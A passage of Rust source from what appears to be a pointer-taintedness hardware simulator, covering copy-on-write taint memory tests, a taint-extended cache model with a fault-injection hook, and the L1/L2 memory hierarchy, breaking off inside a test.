        assert_eq!(child.read_u8(0x2000).unwrap(), (b'X', false));

        // A second write to the now-private page is not a COW fault.
        child.write_u8(0x2001, b'Y', false).unwrap();
        assert_eq!(child.cow_fault_count(), 1);
    }

    #[test]
    fn fork_isolates_taint_both_directions() {
        let mut parent = TaintedMemory::new();
        parent.write_bytes(0x3000, &[1, 2, 3, 4], false).unwrap();
        let mut a = parent.fork();
        let mut b = parent.fork();
        a.set_taint_range(0x3000, 2, true).unwrap();
        b.write_u32(0x3000, 0xdead_beef, WordTaint::ALL).unwrap();
        parent.write_u8(0x3003, 7, true).unwrap();
        // Three divergent views of the same origin page.
        assert_eq!(a.read_bytes(0x3000, 4).unwrap(), vec![1, 2, 3, 4]);
        assert_eq!(a.read_taint(0x3000, 4).unwrap(), [true, true, false, false]);
        assert_eq!(b.read_u32(0x3000).unwrap(), (0xdead_beef, WordTaint::ALL));
        assert_eq!(parent.read_u8(0x3003).unwrap(), (7, true));
        assert!(!parent.read_u8(0x3000).unwrap().1);
    }

    #[test]
    fn pages_materialized_after_fork_are_private() {
        let parent = TaintedMemory::new();
        let mut child = parent.fork();
        child.write_u8(0x8000, 1, true).unwrap();
        assert_eq!(child.cow_fault_count(), 0, "fresh page, nothing to copy");
        assert_eq!(parent.page_count(), 0);
        assert_eq!(parent.read_u8(0x8000).unwrap(), (0, false));
    }

    #[test]
    fn set_taint_range_preserves_data() {
        let mut mem = TaintedMemory::new();
        mem.write_bytes(0x6000, b"abcd", true).unwrap();
        mem.set_taint_range(0x6000, 4, false).unwrap();
        assert_eq!(mem.read_bytes(0x6000, 4).unwrap(), b"abcd");
        assert!(mem.read_taint(0x6000, 4).unwrap().iter().all(|&t| !t));
        mem.set_taint_range(0x6001, 2, true).unwrap();
        assert_eq!(
            mem.read_taint(0x6000, 4).unwrap(),
            vec![false, true, true, false]
        );
    }
}
