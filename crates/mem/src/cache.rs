//! A set-associative cache model whose lines carry taintedness bits.
//!
//! The paper (§4.1) requires that "L2 and L1 caches … are also extended with
//! the additional taintedness bits". This model stores one taint bit per
//! cached byte next to the data byte: line fills copy both, read hits serve
//! both, and write-throughs update both, demonstrating that taintedness
//! travels through the whole hierarchy. Replacement is LRU; the write policy
//! (applied by [`MemorySystem`](crate::MemorySystem)) is write-through with
//! no allocation on write miss.

use std::fmt;

/// Geometry of one cache level.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CacheConfig {
    /// Total capacity in bytes.
    pub size_bytes: u32,
    /// Line size in bytes (power of two).
    pub line_bytes: u32,
    /// Associativity (ways per set).
    pub assoc: u32,
}

impl CacheConfig {
    /// A 16 KiB, 4-way, 32-byte-line configuration resembling a small L1.
    #[must_use]
    pub const fn l1_default() -> CacheConfig {
        CacheConfig {
            size_bytes: 16 * 1024,
            line_bytes: 32,
            assoc: 4,
        }
    }

    /// A 256 KiB, 8-way, 64-byte-line configuration resembling a small L2.
    #[must_use]
    pub const fn l2_default() -> CacheConfig {
        CacheConfig {
            size_bytes: 256 * 1024,
            line_bytes: 64,
            assoc: 8,
        }
    }

    fn sets(&self) -> u32 {
        self.size_bytes / (self.line_bytes * self.assoc)
    }
}

/// Hit/miss/eviction counters of one cache level.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct CacheStats {
    /// Read accesses that hit a valid line.
    pub hits: u64,
    /// Read accesses that missed.
    pub misses: u64,
    /// Valid lines displaced by fills.
    pub evictions: u64,
}

impl CacheStats {
    /// Hit rate in `[0, 1]`; zero when no accesses happened.
    #[must_use]
    pub fn hit_rate(&self) -> f64 {
        let total = self.hits + self.misses;
        if total == 0 {
            0.0
        } else {
            self.hits as f64 / total as f64
        }
    }
}

#[derive(Clone)]
struct Line {
    valid: bool,
    tag: u32,
    data: Vec<u8>,
    taint: Vec<bool>,
    last_use: u64,
}

/// One level of the taint-extended cache hierarchy.
///
/// Cloning copies the full line arrays (data, taint, LRU state) and the
/// statistics — a forked [`MemorySystem`](crate::MemorySystem) continues
/// with the parent's exact cache contents, so forked and fresh executions
/// observe identical hit/miss sequences.
#[derive(Clone)]
pub struct Cache {
    cfg: CacheConfig,
    sets: Vec<Vec<Line>>,
    stats: CacheStats,
    clock: u64,
}

impl fmt::Debug for Cache {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Cache")
            .field("cfg", &self.cfg)
            .field("stats", &self.stats)
            .finish()
    }
}

impl Cache {
    /// Creates an empty cache with the given geometry.
    ///
    /// # Panics
    ///
    /// Panics when the geometry is degenerate (non-power-of-two line size,
    /// zero ways, or capacity not divisible into sets).
    #[must_use]
    pub fn new(cfg: CacheConfig) -> Cache {
        assert!(
            cfg.line_bytes.is_power_of_two(),
            "line size must be a power of two"
        );
        assert!(cfg.assoc > 0, "associativity must be positive");
        assert!(
            cfg.size_bytes.is_multiple_of(cfg.line_bytes * cfg.assoc) && cfg.sets() > 0,
            "capacity must divide into whole sets"
        );
        let sets = (0..cfg.sets())
            .map(|_| {
                (0..cfg.assoc)
                    .map(|_| Line {
                        valid: false,
                        tag: 0,
                        data: vec![0; cfg.line_bytes as usize],
                        taint: vec![false; cfg.line_bytes as usize],
                        last_use: 0,
                    })
                    .collect()
            })
            .collect();
        Cache {
            cfg,
            sets,
            stats: CacheStats::default(),
            clock: 0,
        }
    }

    /// The geometry this cache was built with.
    #[must_use]
    pub fn config(&self) -> CacheConfig {
        self.cfg
    }

    /// Base address of the line containing `addr`.
    #[must_use]
    pub fn line_base(&self, addr: u32) -> u32 {
        addr & !(self.cfg.line_bytes - 1)
    }

    fn set_index(&self, addr: u32) -> usize {
        ((addr / self.cfg.line_bytes) % self.cfg.sets()) as usize
    }

    fn tag(&self, addr: u32) -> u32 {
        addr / self.cfg.line_bytes / self.cfg.sets()
    }

    /// Probes for a read: on a hit, returns the byte and its taint bit
    /// straight from the cache line (and refreshes LRU). Counts the access.
    pub fn probe_read(&mut self, addr: u32) -> Option<(u8, bool)> {
        self.clock += 1;
        let (set, tag) = (self.set_index(addr), self.tag(addr));
        let off = (addr % self.cfg.line_bytes) as usize;
        let clock = self.clock;
        for line in &mut self.sets[set] {
            if line.valid && line.tag == tag {
                line.last_use = clock;
                self.stats.hits += 1;
                return Some((line.data[off], line.taint[off]));
            }
        }
        self.stats.misses += 1;
        None
    }

    /// Installs a full line (data plus taint bits), evicting the LRU way.
    ///
    /// # Panics
    ///
    /// Panics when `data`/`taint` are not exactly one line long.
    pub fn fill_line(&mut self, addr: u32, data: &[u8], taint: &[bool]) {
        assert_eq!(
            data.len(),
            self.cfg.line_bytes as usize,
            "fill must be one line"
        );
        assert_eq!(
            taint.len(),
            self.cfg.line_bytes as usize,
            "fill must be one line"
        );
        self.clock += 1;
        let (set, tag) = (self.set_index(addr), self.tag(addr));
        let clock = self.clock;
        let way = self.sets[set]
            .iter()
            .enumerate()
            .min_by_key(|(_, l)| (l.valid, l.last_use))
            .map(|(i, _)| i)
            .expect("associativity is positive");
        let line = &mut self.sets[set][way];
        if line.valid {
            self.stats.evictions += 1;
        }
        line.valid = true;
        line.tag = tag;
        line.data.copy_from_slice(data);
        line.taint.copy_from_slice(taint);
        line.last_use = clock;
    }

    /// Write-through update: if the line is resident, patch the byte and its
    /// taint bit. Returns whether the line was resident.
    pub fn update_write(&mut self, addr: u32, value: u8, tainted: bool) -> bool {
        let (set, tag) = (self.set_index(addr), self.tag(addr));
        let off = (addr % self.cfg.line_bytes) as usize;
        for line in &mut self.sets[set] {
            if line.valid && line.tag == tag {
                line.data[off] = value;
                line.taint[off] = tainted;
                return true;
            }
        }
        false
    }

    /// Access counters.
    #[must_use]
    pub fn stats(&self) -> CacheStats {
        self.stats
    }

    /// Number of resident lines containing at least one tainted byte — the
    /// quantity behind the paper's cache area-overhead discussion.
    #[must_use]
    pub fn tainted_line_count(&self) -> usize {
        self.sets
            .iter()
            .flatten()
            .filter(|l| l.valid && l.taint.iter().any(|&t| t))
            .count()
    }

    /// Drops every line (does not reset statistics).
    pub fn invalidate_all(&mut self) {
        for line in self.sets.iter_mut().flatten() {
            line.valid = false;
        }
    }

    /// Fault-injection hook: flips one bit in a resident line, modelling a
    /// single-event upset in the cache array.
    ///
    /// `pick` selects among the valid lines (in set/way order, so the choice
    /// is deterministic) and `bit` selects the bit within the line: bits
    /// `0..8*line_bytes` address the data array, and the next `line_bytes`
    /// "bits" flip the per-byte taint bit instead — the paper's shadow bits
    /// are cache state too (§4.1). Returns the byte address of the corrupted
    /// cell and whether the taint bit (rather than a data bit) was hit, or
    /// `None` when the cache holds no valid line.
    pub fn corrupt_line(&mut self, pick: u64, bit: u64) -> Option<(u32, bool)> {
        let line_bytes = self.cfg.line_bytes as usize;
        let sets = self.cfg.sets();
        let coords: Vec<(usize, usize)> = (0..self.sets.len())
            .flat_map(|si| (0..self.sets[si].len()).map(move |wi| (si, wi)))
            .filter(|&(si, wi)| self.sets[si][wi].valid)
            .collect();
        if coords.is_empty() {
            return None;
        }
        let (si, wi) = coords[(pick % coords.len() as u64) as usize];
        let line = &mut self.sets[si][wi];
        // 8 data bits + 1 taint bit per cached byte.
        let b = (bit % (line_bytes as u64 * 9)) as usize;
        let off = if b < line_bytes * 8 {
            b / 8
        } else {
            b - line_bytes * 8
        };
        let addr = (line.tag * sets + si as u32) * self.cfg.line_bytes + off as u32;
        if b < line_bytes * 8 {
            line.data[off] ^= 1 << (b % 8);
            Some((addr, false))
        } else {
            line.taint[off] = !line.taint[off];
            Some((addr, true))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tiny() -> Cache {
        // 2 sets × 2 ways × 16-byte lines = 64 bytes.
        Cache::new(CacheConfig {
            size_bytes: 64,
            line_bytes: 16,
            assoc: 2,
        })
    }

    fn line(fill: u8, tainted: bool) -> (Vec<u8>, Vec<bool>) {
        (vec![fill; 16], vec![tainted; 16])
    }

    #[test]
    fn miss_then_fill_then_hit() {
        let mut c = tiny();
        assert_eq!(c.probe_read(0x100), None);
        let (d, t) = line(0xaa, true);
        c.fill_line(0x100, &d, &t);
        assert_eq!(c.probe_read(0x104), Some((0xaa, true)));
        assert_eq!(c.stats().hits, 1);
        assert_eq!(c.stats().misses, 1);
    }

    #[test]
    fn taint_bits_are_stored_per_byte_in_lines() {
        let mut c = tiny();
        let d = vec![1u8; 16];
        let mut t = vec![false; 16];
        t[3] = true;
        c.fill_line(0x200, &d, &t);
        assert_eq!(c.probe_read(0x203), Some((1, true)));
        assert_eq!(c.probe_read(0x204), Some((1, false)));
        assert_eq!(c.tainted_line_count(), 1);
    }

    #[test]
    fn corrupt_line_flips_data_and_taint_bits_deterministically() {
        let mut c = tiny();
        assert_eq!(c.corrupt_line(0, 0), None, "empty cache has no target");
        let (d, t) = line(0xaa, false);
        c.fill_line(0x130, &d, &t);
        // Data bit: pick the only valid line, bit 0 of byte 0.
        let (addr, taint_bit) = c.corrupt_line(7, 0).unwrap();
        assert_eq!((addr, taint_bit), (0x130, false));
        assert_eq!(c.probe_read(0x130), Some((0xab, false)));
        // Taint "bit" region: bits 8*16.. flip shadow bits.
        let (addr, taint_bit) = c.corrupt_line(0, 16 * 8 + 5).unwrap();
        assert_eq!((addr, taint_bit), (0x135, true));
        assert_eq!(c.probe_read(0x135), Some((0xaa, true)));
        // The same (pick, bit) on the same state is reproducible.
        let mut c2 = tiny();
        c2.fill_line(0x130, &d, &t);
        assert_eq!(c2.corrupt_line(7, 0), Some((0x130, false)));
    }

    #[test]
    fn lru_eviction_prefers_least_recent() {
        let mut c = tiny();
        // Addresses mapping to the same set: line size 16, 2 sets -> set = (addr/16) % 2.
        let (a, b, d3) = (0x000, 0x020, 0x040); // all set 0
        let (d, t) = line(0x11, false);
        c.fill_line(a, &d, &t);
        let (d, t) = line(0x22, false);
        c.fill_line(b, &d, &t);
        // Touch `a` so `b` becomes LRU.
        assert!(c.probe_read(a).is_some());
        let (d, t) = line(0x33, false);
        c.fill_line(d3, &d, &t);
        assert_eq!(c.stats().evictions, 1);
        assert!(c.probe_read(a).is_some(), "recently used line must survive");
        assert_eq!(c.probe_read(b), None, "LRU line must be evicted");
        assert!(c.probe_read(d3).is_some());
    }

    #[test]
    fn update_write_patches_resident_lines_only() {
        let mut c = tiny();
        assert!(!c.update_write(0x300, 9, true));
        let (d, t) = line(0, false);
        c.fill_line(0x300, &d, &t);
        assert!(c.update_write(0x305, 9, true));
        assert_eq!(c.probe_read(0x305), Some((9, true)));
        assert_eq!(c.tainted_line_count(), 1);
        assert!(c.update_write(0x305, 9, false));
        assert_eq!(c.tainted_line_count(), 0);
    }

    #[test]
    fn invalidate_all_drops_lines() {
        let mut c = tiny();
        let (d, t) = line(5, true);
        c.fill_line(0x100, &d, &t);
        c.invalidate_all();
        assert_eq!(c.probe_read(0x100), None);
        assert_eq!(c.tainted_line_count(), 0);
    }

    #[test]
    fn default_geometries_are_consistent() {
        let l1 = Cache::new(CacheConfig::l1_default());
        assert_eq!(l1.config().sets(), 128);
        let l2 = Cache::new(CacheConfig::l2_default());
        assert_eq!(l2.config().sets(), 512);
        assert_eq!(l1.line_base(0x1234), 0x1220);
    }

    #[test]
    #[should_panic(expected = "power of two")]
    fn rejects_bad_line_size() {
        let _ = Cache::new(CacheConfig {
            size_bytes: 60,
            line_bytes: 15,
            assoc: 2,
        });
    }

    #[test]
    fn hit_rate_math() {
        let mut c = tiny();
        assert_eq!(c.stats().hit_rate(), 0.0);
        let (d, t) = line(0, false);
        c.fill_line(0, &d, &t);
        let _ = c.probe_read(0); // hit
        let _ = c.probe_read(0x100); // miss (set 0, different tag, other way invalid -> miss)
        assert!((c.stats().hit_rate() - 0.5).abs() < 1e-9);
    }
}
