//! The assembled memory hierarchy: main memory behind optional L1/L2 caches.

use std::collections::HashSet;
use std::fmt;

use ptaint_isa::PAGE_SIZE;
use ptaint_trace::{Event, SharedObserver};

use crate::{Cache, CacheConfig, CacheStats, MemFault, TaintedMemory, WordTaint};

/// Which cache levels to model.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct HierarchyConfig {
    /// L1 geometry, or `None` for no L1.
    pub l1: Option<CacheConfig>,
    /// L2 geometry, or `None` for no L2.
    pub l2: Option<CacheConfig>,
}

impl HierarchyConfig {
    /// No caches: every access goes straight to memory.
    #[must_use]
    pub const fn flat() -> HierarchyConfig {
        HierarchyConfig { l1: None, l2: None }
    }

    /// Default two-level hierarchy (16 KiB L1, 256 KiB L2).
    #[must_use]
    pub const fn two_level() -> HierarchyConfig {
        HierarchyConfig {
            l1: Some(CacheConfig::l1_default()),
            l2: Some(CacheConfig::l2_default()),
        }
    }
}

/// The full taint-extended memory system of paper §4.1: sparse main memory
/// with a taint bit per byte, optionally fronted by L1/L2 caches whose lines
/// also carry taint bits.
///
/// The caches are **write-through** (memory is always authoritative) with
/// allocation on read misses only, so the data path stays exact while the
/// model still demonstrates taintedness resident at every level and yields
/// hit/miss statistics.
///
/// ```
/// use ptaint_mem::{HierarchyConfig, MemorySystem, WordTaint};
///
/// let mut sys = MemorySystem::new(HierarchyConfig::two_level());
/// sys.write_u32(0x1000_0000, 0x6463_6261, WordTaint::ALL)?;
/// let (v, t) = sys.read_u32(0x1000_0000)?; // fills L2 then L1
/// assert_eq!((v, t), (0x6463_6261, WordTaint::ALL));
/// let again = sys.read_u32(0x1000_0000)?; // L1 hit, taint served from the line
/// assert_eq!(again.1, WordTaint::ALL);
/// assert!(sys.l1_stats().unwrap().hits > 0);
/// # Ok::<(), ptaint_mem::MemFault>(())
/// ```
pub struct MemorySystem {
    mem: TaintedMemory,
    l1: Option<Cache>,
    l2: Option<Cache>,
    observer: Option<SharedObserver>,
    /// Pages registered by a decode cache: a store into one of these moves
    /// it to `dirty_code_pages` (self-modifying-code coherence).
    code_watches: HashSet<u32>,
    dirty_code_pages: Vec<u32>,
}

impl fmt::Debug for MemorySystem {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("MemorySystem")
            .field("mem", &self.mem)
            .field("l1", &self.l1)
            .field("l2", &self.l2)
            .field("observer", &self.observer.is_some())
            .field("code_watches", &self.code_watches.len())
            .finish()
    }
}

impl Default for MemorySystem {
    fn default() -> MemorySystem {
        MemorySystem::new(HierarchyConfig::flat())
    }
}

impl MemorySystem {
    /// Creates a memory system with the requested cache levels.
    #[must_use]
    pub fn new(cfg: HierarchyConfig) -> MemorySystem {
        MemorySystem {
            mem: TaintedMemory::new(),
            l1: cfg.l1.map(Cache::new),
            l2: cfg.l2.map(Cache::new),
            observer: None,
            code_watches: HashSet::new(),
            dirty_code_pages: Vec::new(),
        }
    }

    /// Attaches an observer that receives a [`Event::CacheAccess`] for every
    /// cache-level probe. With no observer attached (the default) the probe
    /// paths pay only a `None` check.
    pub fn set_observer(&mut self, observer: Option<SharedObserver>) {
        self.observer = observer;
    }

    /// A system with no caches.
    #[must_use]
    pub fn flat() -> MemorySystem {
        MemorySystem::new(HierarchyConfig::flat())
    }

    /// A copy-on-write fork of the whole hierarchy: main memory shares its
    /// pages with the parent (see [`TaintedMemory::fork`]), the L1/L2 line
    /// arrays and their statistics are deep-copied (they are bounded in
    /// size), and the self-modifying-code watch state carries over so a
    /// forked decode cache keeps its coherence contract. The observer is
    /// *not* inherited — observers are single-timeline sinks; attach a fresh
    /// one per fork if tracing is wanted.
    #[must_use]
    pub fn fork(&self) -> MemorySystem {
        MemorySystem {
            mem: self.mem.fork(),
            l1: self.l1.clone(),
            l2: self.l2.clone(),
            observer: None,
            code_watches: self.code_watches.clone(),
            dirty_code_pages: self.dirty_code_pages.clone(),
        }
    }

    /// Number of main-memory pages currently shared with a fork.
    #[must_use]
    pub fn pages_shared(&self) -> usize {
        self.mem.pages_shared()
    }

    /// Writes that unshared a copy-on-write page since this instance was
    /// created or forked.
    #[must_use]
    pub fn cow_fault_count(&self) -> u64 {
        self.mem.cow_fault_count()
    }

    /// Read-only view of main memory.
    #[must_use]
    pub fn memory(&self) -> &TaintedMemory {
        &self.mem
    }

    /// L1 statistics, if an L1 is configured.
    #[must_use]
    pub fn l1_stats(&self) -> Option<CacheStats> {
        self.l1.as_ref().map(Cache::stats)
    }

    /// L2 statistics, if an L2 is configured.
    #[must_use]
    pub fn l2_stats(&self) -> Option<CacheStats> {
        self.l2.as_ref().map(Cache::stats)
    }

    /// Resident tainted-line counts `(l1, l2)`.
    #[must_use]
    pub fn tainted_lines(&self) -> (usize, usize) {
        (
            self.l1.as_ref().map_or(0, Cache::tainted_line_count),
            self.l2.as_ref().map_or(0, Cache::tainted_line_count),
        )
    }

    /// Registers `page` (a byte address divided by [`PAGE_SIZE`]) for
    /// self-modifying-code coherence: the next store into it reports the
    /// page via [`MemorySystem::take_dirty_code_pages`] and drops the watch.
    /// The decode cache re-registers when it re-predecodes the page.
    pub fn watch_code_page(&mut self, page: u32) {
        self.code_watches.insert(page);
    }

    /// Watches every page overlapping the byte range `[base, base + len)`.
    ///
    /// Check elision uses this to cover the *whole* text segment at boot:
    /// the decode cache only watches pages it has predecoded, but a store
    /// into a not-yet-executed text page must still void the statically
    /// proven set before any stale proof can be consulted.
    pub fn watch_code_range(&mut self, base: u32, len: u32) {
        if len == 0 {
            return;
        }
        let first = base / PAGE_SIZE;
        let last = base.saturating_add(len - 1) / PAGE_SIZE;
        for page in first..=last {
            self.code_watches.insert(page);
        }
    }

    /// Whether any watched code page has been written since the last
    /// [`MemorySystem::take_dirty_code_pages`].
    #[must_use]
    pub fn has_dirty_code_pages(&self) -> bool {
        !self.dirty_code_pages.is_empty()
    }

    /// Drains the set of watched pages that have been written to. Each page
    /// appears at most once per watch registration.
    pub fn take_dirty_code_pages(&mut self) -> Vec<u32> {
        std::mem::take(&mut self.dirty_code_pages)
    }

    /// Write-path hook: if `addr` falls in a watched code page, mark the
    /// page dirty. The common case (nothing watched, or the page already
    /// reported) is a `HashSet` emptiness check.
    #[inline]
    fn note_code_write(&mut self, addr: u32) {
        if self.code_watches.is_empty() {
            return;
        }
        let page = addr / PAGE_SIZE;
        if self.code_watches.remove(&page) {
            self.dirty_code_pages.push(page);
        }
    }

    fn fill_from_memory(mem: &TaintedMemory, cache: &mut Cache, addr: u32) -> Result<(), MemFault> {
        let base = cache.line_base(addr);
        let len = cache.config().line_bytes;
        // Guard-page lines are never cached; the byte access below will fault.
        let mut data = Vec::with_capacity(len as usize);
        let mut taint = Vec::with_capacity(len as usize);
        for i in 0..len {
            let (b, t) = mem.read_u8(base + i)?;
            data.push(b);
            taint.push(t);
        }
        cache.fill_line(base, &data, &taint);
        Ok(())
    }

    /// Reads one byte and its taint bit through the cache hierarchy.
    ///
    /// # Errors
    ///
    /// Propagates [`MemFault`]s from main memory (null-page accesses).
    pub fn read_u8(&mut self, addr: u32) -> Result<(u8, bool), MemFault> {
        // Validate the access against memory first so faulting addresses are
        // never cached.
        let authoritative = self.mem.read_u8(addr)?;
        // The caches are mutably borrowed below, so snapshot the observer
        // handle up front (a `None` copy in the common untraced case).
        let observer = self.observer.clone();
        let emit = |level: u8, hit: bool| {
            if let Some(obs) = &observer {
                obs.borrow_mut()
                    .on_event(&Event::CacheAccess { level, addr, hit });
            }
        };
        if let Some(l1) = &mut self.l1 {
            let probe = l1.probe_read(addr);
            emit(1, probe.is_some());
            if let Some(hit) = probe {
                return Ok(hit);
            }
            if let Some(l2) = &mut self.l2 {
                let l2_hit = l2.probe_read(addr).is_some();
                emit(2, l2_hit);
                if !l2_hit {
                    Self::fill_from_memory(&self.mem, l2, addr)?;
                }
            }
            Self::fill_from_memory(&self.mem, l1, addr)?;
            return Ok(authoritative);
        }
        if let Some(l2) = &mut self.l2 {
            let probe = l2.probe_read(addr);
            emit(2, probe.is_some());
            if let Some(hit) = probe {
                return Ok(hit);
            }
            Self::fill_from_memory(&self.mem, l2, addr)?;
        }
        Ok(authoritative)
    }

    /// Writes one byte and its taint bit (write-through).
    ///
    /// # Errors
    ///
    /// Propagates [`MemFault`]s from main memory.
    pub fn write_u8(&mut self, addr: u32, value: u8, tainted: bool) -> Result<(), MemFault> {
        self.note_code_write(addr);
        self.mem.write_u8(addr, value, tainted)?;
        if let Some(l1) = &mut self.l1 {
            l1.update_write(addr, value, tainted);
        }
        if let Some(l2) = &mut self.l2 {
            l2.update_write(addr, value, tainted);
        }
        Ok(())
    }

    /// Reads a little-endian halfword and its taint (low two bits).
    ///
    /// # Errors
    ///
    /// Faults on misalignment or null-page access.
    pub fn read_u16(&mut self, addr: u32) -> Result<(u16, WordTaint), MemFault> {
        if self.l1.is_none() && self.l2.is_none() {
            return self.mem.read_u16(addr);
        }
        // Alignment is checked by main memory.
        let _ = self.mem.read_u16(addr)?;
        let (b0, t0) = self.read_u8(addr)?;
        let (b1, t1) = self.read_u8(addr + 1)?;
        Ok((
            u16::from_le_bytes([b0, b1]),
            WordTaint::CLEAN.with_byte(0, t0).with_byte(1, t1),
        ))
    }

    /// Writes a little-endian halfword.
    ///
    /// # Errors
    ///
    /// Faults on misalignment or null-page access.
    pub fn write_u16(&mut self, addr: u32, value: u16, taint: WordTaint) -> Result<(), MemFault> {
        // A 2-aligned halfword never straddles a page, so one hook suffices.
        self.note_code_write(addr);
        if self.l1.is_none() && self.l2.is_none() {
            return self.mem.write_u16(addr, value, taint);
        }
        self.mem.write_u16(addr, value, taint)?;
        let [b0, b1] = value.to_le_bytes();
        self.write_u8(addr, b0, taint.byte(0))?;
        self.write_u8(addr + 1, b1, taint.byte(1))
    }

    /// Reads a little-endian word and its four taint bits.
    ///
    /// With no caches configured this is one call into the word-granular
    /// [`TaintedMemory::read_u32`] fast path; with caches it probes the
    /// hierarchy byte-wise to keep line statistics exact.
    ///
    /// # Errors
    ///
    /// Faults on misalignment or null-page access.
    pub fn read_u32(&mut self, addr: u32) -> Result<(u32, WordTaint), MemFault> {
        if self.l1.is_none() && self.l2.is_none() {
            return self.mem.read_u32(addr);
        }
        let _ = self.mem.read_u32(addr)?;
        let mut bytes = [0u8; 4];
        let mut taint = WordTaint::CLEAN;
        for (i, b) in bytes.iter_mut().enumerate() {
            let (v, t) = self.read_u8(addr + i as u32)?;
            *b = v;
            taint = taint.with_byte(i, t);
        }
        Ok((u32::from_le_bytes(bytes), taint))
    }

    /// Writes a little-endian word and its four taint bits.
    ///
    /// With no caches configured this is one call into the word-granular
    /// [`TaintedMemory::write_u32`] fast path.
    ///
    /// # Errors
    ///
    /// Faults on misalignment or null-page access.
    pub fn write_u32(&mut self, addr: u32, value: u32, taint: WordTaint) -> Result<(), MemFault> {
        // A 4-aligned word never straddles a page, so one hook suffices.
        self.note_code_write(addr);
        if self.l1.is_none() && self.l2.is_none() {
            return self.mem.write_u32(addr, value, taint);
        }
        self.mem.write_u32(addr, value, taint)?;
        for (i, b) in value.to_le_bytes().into_iter().enumerate() {
            self.write_u8(addr + i as u32, b, taint.byte(i))?;
        }
        Ok(())
    }

    /// Fetches an instruction word, bypassing the data caches so fetch
    /// traffic does not pollute D-cache statistics.
    ///
    /// # Contract
    ///
    /// The cache bypass is *silent but safe*: the hierarchy is
    /// write-through, so main memory is always authoritative and a fetch
    /// observes every store the instant it retires — including stores that
    /// travelled through the caches (pinned by the
    /// `fetch_sees_stores_through_caches` unit test). The bypass never
    /// allocates or probes a line, so fetching leaves D-cache statistics
    /// untouched. Anything that *caches decoded text* on top of this (the
    /// CPU's decode cache) must additionally register a
    /// [`MemorySystem::watch_code_page`] per fetched page to learn about
    /// later stores into it.
    ///
    /// # Errors
    ///
    /// Faults on misalignment or null-page access.
    pub fn fetch_u32(&self, addr: u32) -> Result<u32, MemFault> {
        self.mem.read_u32(addr).map(|(v, _)| v)
    }

    /// Bulk copy into memory with uniform taint; keeps caches coherent.
    ///
    /// This is the OS's kernel→user copy primitive (paper §4.4): buffers
    /// returned by `SYS_READ`/`SYS_RECV` are written with `tainted == true`.
    ///
    /// # Errors
    ///
    /// Faults when the range touches the null page.
    pub fn write_bytes(&mut self, addr: u32, data: &[u8], tainted: bool) -> Result<(), MemFault> {
        if self.l1.is_some() || self.l2.is_some() {
            // Caches want byte-wise write-through so resident lines patch.
            for (i, &b) in data.iter().enumerate() {
                self.write_u8(addr + i as u32, b, tainted)?;
            }
            return Ok(());
        }
        // Flat fast path: one code-watch hook and one page-chunked bulk copy
        // per crossed page (the hook fires before the chunk's write, like
        // the byte path's note-then-write order).
        let mut i = 0;
        while i < data.len() {
            let a = addr.wrapping_add(i as u32);
            self.note_code_write(a);
            let off = (a % PAGE_SIZE) as usize;
            let run = (data.len() - i).min(PAGE_SIZE as usize - off);
            self.mem.write_bytes(a, &data[i..i + run], tainted)?;
            i += run;
        }
        Ok(())
    }

    /// Bulk read of data bytes.
    ///
    /// # Errors
    ///
    /// Faults when the range touches the null page.
    pub fn read_bytes(&self, addr: u32, len: u32) -> Result<Vec<u8>, MemFault> {
        self.mem.read_bytes(addr, len)
    }

    /// Bulk read of taint bits.
    ///
    /// # Errors
    ///
    /// Faults when the range touches the null page.
    pub fn read_taint(&self, addr: u32, len: u32) -> Result<Vec<bool>, MemFault> {
        self.mem.read_taint(addr, len)
    }

    /// Reads a NUL-terminated string of at most `max` bytes.
    ///
    /// # Errors
    ///
    /// Faults when the scan touches the null page.
    pub fn read_cstr(&self, addr: u32, max: u32) -> Result<Vec<u8>, MemFault> {
        self.mem.read_cstr(addr, max)
    }

    /// Re-marks a taint range, keeping caches coherent.
    ///
    /// # Errors
    ///
    /// Faults when the range touches the null page.
    pub fn set_taint_range(&mut self, addr: u32, len: u32, tainted: bool) -> Result<(), MemFault> {
        for i in 0..len {
            let (b, _) = self.mem.read_u8(addr + i)?;
            self.write_u8(addr + i, b, tainted)?;
        }
        Ok(())
    }

    /// Maximal contiguous runs of tainted bytes in main memory, in ascending
    /// address order (see [`TaintedMemory::tainted_ranges`]). Cached copies
    /// are coherent with this view because the hierarchy is write-through.
    #[must_use]
    pub fn tainted_ranges(&self) -> Vec<(u32, u32)> {
        self.mem.tainted_ranges()
    }

    /// Fault-injection hook: flips one bit in a resident line of the given
    /// cache level (1 or 2) — see [`Cache::corrupt_line`]. Unlike every
    /// other mutation here this deliberately breaks write-through coherence:
    /// main memory keeps the pristine value, the cache serves the corrupted
    /// one until the line is evicted or overwritten. Returns the corrupted
    /// byte address and whether a shadow taint bit (rather than a data bit)
    /// was hit; `None` when the level is absent or holds no valid line.
    pub fn corrupt_cache_line(&mut self, level: u8, pick: u64, bit: u64) -> Option<(u32, bool)> {
        let cache = match level {
            1 => self.l1.as_mut(),
            2 => self.l2.as_mut(),
            _ => None,
        }?;
        cache.corrupt_line(pick, bit)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn flat_system_behaves_like_memory() {
        let mut sys = MemorySystem::flat();
        sys.write_u32(0x1000, 0x0102_0304, WordTaint::from_bits(0b1010))
            .unwrap();
        assert_eq!(
            sys.read_u32(0x1000).unwrap(),
            (0x0102_0304, WordTaint::from_bits(0b1010))
        );
        assert!(sys.l1_stats().is_none());
        assert!(sys.l2_stats().is_none());
    }

    #[test]
    fn taint_travels_through_both_cache_levels() {
        let mut sys = MemorySystem::new(HierarchyConfig::two_level());
        sys.write_bytes(0x2000, b"evil", true).unwrap();
        // First read misses both levels and fills them.
        let (v, t) = sys.read_u32(0x2000).unwrap();
        assert_eq!(v, u32::from_le_bytes(*b"evil"));
        assert_eq!(t, WordTaint::ALL);
        let (l1_tainted, l2_tainted) = sys.tainted_lines();
        assert_eq!(
            (l1_tainted, l2_tainted),
            (1, 1),
            "tainted line resident at each level"
        );
        // Second read is an L1 hit and still reports full taint.
        let before = sys.l1_stats().unwrap().hits;
        let (_, t2) = sys.read_u32(0x2000).unwrap();
        assert_eq!(t2, WordTaint::ALL);
